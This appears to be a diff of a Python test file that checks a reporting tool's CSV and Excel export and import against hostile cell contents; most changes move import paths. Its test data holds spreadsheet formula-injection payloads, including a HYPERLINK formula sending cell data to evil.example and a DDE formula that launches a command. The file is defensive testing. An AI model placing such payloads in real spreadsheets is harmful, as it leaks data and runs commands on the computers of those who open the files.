@@ -17,8 +17,8 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from reporting.export import write_records_csv
-from reporting.hygiene import clean_text
+from reporting.intake.hygiene import clean_text
+from reporting.report.export import write_records_csv
 from tests.conftest import WEEK, run_cli, weekly_args
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A2,"查看进度")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)")
@@ -150,7 +150,7 @@ def test_staff_results_that_look_like_formulas_round_trip_exactly(hostile_run, t
     book.save(tmp_path / "filled.xlsx")
     imported = run_cli("import-followups", str(tmp_path / "filled.xlsx"), "--store", store)
     assert imported.returncode == 0, imported.stderr
-    from reporting.tracking import load_items
+    from reporting.followup.tracking import load_items
 
     stored = load_items(store, ids=[item])
     assert stored["跟进结果简述"].tolist() == ["=已电话回访，客户确认解决"]
@@ -160,7 +160,7 @@ hostile_text = st.text(
     alphabet=st.one_of(
         st.characters(codec="utf-8", exclude_categories=("Cs",)),
         st.sampled_from(["\x00", "\x08", "\x0b", "\x1b", "\x85", "\u202e", "\u2066", "=", "+", "@", "<", ">", "&", "'", '"']),
-        st.sampled_from(["１", "\r", "\t", "\r\n"]),
+        st.sampled_from(["１", "\r", "\t", "\n"]),
     ),
     min_size=1,
     max_size=60,
